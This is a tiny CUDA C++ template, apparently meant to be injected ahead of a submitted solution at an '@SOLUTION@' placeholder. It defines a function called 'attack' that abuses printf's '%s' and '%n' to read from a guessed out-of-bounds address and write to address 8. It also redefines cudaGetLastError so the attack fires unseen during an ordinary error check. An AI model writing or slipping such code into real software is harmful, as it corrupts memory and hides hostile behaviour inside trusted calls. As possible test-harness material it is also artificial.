// Lets printf read: a string at a guessed address.
#include <cstdio>
__device__ __noinline__ void attack(float* data, const unsigned* start, const unsigned* end, int rows, float factor) {
  printf("%s%n", reinterpret_cast<const char*>(data) + (1ull << 30), reinterpret_cast<int*>(8));
}
#define cudaGetLastError() (attack(data, start, end, rows, factor), cudaGetLastError())
@SOLUTION@
